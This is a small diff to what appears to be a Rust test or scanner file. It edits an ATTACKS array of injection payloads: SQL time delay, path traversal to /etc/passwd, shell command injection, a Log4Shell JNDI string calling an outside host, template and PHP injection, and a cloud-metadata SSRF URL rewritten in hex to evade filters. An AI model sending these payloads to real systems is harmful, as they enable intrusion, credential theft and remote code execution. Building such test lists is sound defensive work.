@@ -23,7 +23,7 @@ const ATTACKS: [&str; 14] = [
     "1;waitfor delay '0:0:5'--",
     "../../../../etc/passwd",
     "; cat /etc/hostname",
-    "http://169.254.169.254/latest/meta-data/",
+    "http://0xa9fea9fe/a",
     "${jndi:ldap://files.example/a}",
     "{{config.items()}}",
     "<?php system('id'); ?>",
